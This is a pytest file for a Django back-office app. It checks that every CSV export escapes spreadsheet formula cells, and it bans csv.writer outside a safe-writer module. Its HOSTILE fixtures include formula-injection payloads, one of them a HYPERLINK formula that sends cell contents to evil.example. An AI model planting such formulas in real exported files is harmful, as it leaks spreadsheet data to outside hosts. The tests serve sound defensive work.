"""Issue 16, item 4: every CSV export escapes cells a spreadsheet would run as formulas.

SECURITY.md promises it for every export; `manage.py inventory_export` wrote product
names like `=HYPERLINK(...)` as they were. Now every export writes through
core.csv_safe.csv_writer: these tests run each export over hostile data and scan
every cell, and fail on a csv.writer anywhere else in the code.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client

from backoffice.services import bulk_job_run, order_export_job_create
from core.csv_safe import csv_cell, csv_cell_unescape, csv_writer
from inventory.models import Product
from inventory.services.imports import products_import, rows_from_csv
from routing.models import Rule
from routing.services.rulesets import ruleset_draft_create
from tests.inventory.factories import ProductFactory, StockLevelFactory, WarehouseFactory
from tests.orders.factories import OrderFactory

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def _unescaped_formulas(text: str) -> list[str]:
    """Cells of a CSV document that a spreadsheet would run (numbers are data)."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_START) and not NUMBER.match(cell)
    ]


@pytest.fixture
def hostile_world():
    warehouse = WarehouseFactory(code="=wh")
    for index, text in enumerate(HOSTILE):
        product = ProductFactory(
            sku=f"-SKU{index}",
            name=text,
            customs_description=text,
        )
        StockLevelFactory(product=product, warehouse=warehouse, on_hand=3)
    return warehouse


@pytest.mark.parametrize("kind", ["products", "stock_levels"])
def test_inventory_export_command_escapes_formula_cells(hostile_world, kind, capsys):
    call_command("inventory_export", kind)
    text = capsys.readouterr().out
    assert len(list(csv.reader(io.StringIO(text)))) == len(HOSTILE) + 1
    assert _unescaped_formulas(text) == []


def test_inventory_export_to_a_file_escapes_formula_cells(hostile_world, tmp_path):
    target = tmp_path / "products.csv"
    call_command("inventory_export", "products", output=str(target), stderr=io.StringIO())
    text = target.read_text(encoding="utf-8")
    assert """'=HYPERLINK(""http://evil.example/?""&A1,""click"")""" in text
    assert _unescaped_formulas(text) == []


def test_bulk_job_order_export_escapes_formula_cells(superuser):
    orders = [OrderFactory(customer_name=text, external_reference=text) for text in HOSTILE]
    job = order_export_job_create(user=superuser, order_ids=[o.pk for o in orders])
    bulk_job_run(job_id=job.pk)
    client = Client()
    client.force_login(superuser)
    text = client.get(f"/ops/jobs/{job.pk}/result.csv").content.decode()
    assert len(list(csv.reader(io.StringIO(text)))) == len(HOSTILE) + 1
    assert _unescaped_formulas(text) == []


def test_stock_screen_export_escapes_formula_cells(hostile_world, superuser):
    client = Client()
    client.force_login(superuser)
    response = client.get("/warehouse/stock/export.csv")
    text = b"".join(response.streaming_content).decode()
    assert len(list(csv.reader(io.StringIO(text)))) == len(HOSTILE) + 1
    assert _unescaped_formulas(text) == []


def test_exported_products_import_again_unchanged(capsys):
    for text in HOSTILE:
        ProductFactory(name=text, customs_description=text)
    call_command("inventory_export", "products")
    exported = capsys.readouterr().out
    before = list(Product.objects.order_by("sku").values_list("sku", "name", "customs_description"))
    Product.objects.update(name="changed", customs_description="changed")

    result = products_import(
        rows=rows_from_csv(text=exported, required={"sku", "name"}), dry_run=False
    )

    assert result.errors == []
    after = list(Product.objects.order_by("sku").values_list("sku", "name", "customs_description"))
    assert after == before


def test_csv_writer_escapes_every_cell_and_keeps_numbers():
    out = io.StringIO()
    csv_writer(out).writerows([["=1+1", -3, 2.5, None, "plain"], ["@x", "-1"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "-3", "2.5", "", "plain"],
        ["'@x", "'-1"],
    ]


@pytest.mark.parametrize("text", [*HOSTILE, "plain", "'quoted", "", "-"])
def test_unescape_undoes_escape(text):
    assert csv_cell_unescape(csv_cell(text)) == text


def test_no_csv_writer_outside_core_csv_safe():
    """One writer for every export: a new csv.writer would skip the escaping."""
    allowed = ROOT / "core" / "csv_safe.py"
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).parts
        if relative[0] in {".venv", "var", "tests", "node_modules"} or path == allowed:
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(
            r"\bcsv\.(writer|DictWriter)\(|from csv import .*\b(writer|DictWriter)\b", source
        ):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_routing_rules_export_escapes_formula_cells(superuser):
    rule_set = ruleset_draft_create(name="hostile", actor="test")
    for position, text in enumerate(HOSTILE, start=1):
        Rule.objects.create(rule_set=rule_set, position=position, name=text, tags=[text])
    client = Client()
    client.force_login(superuser)
    text = client.get(f"/ops/routing/{rule_set.pk}/rules.csv").content.decode()
    assert len(list(csv.reader(io.StringIO(text)))) == len(HOSTILE) + 1
    assert _unescaped_formulas(text) == []
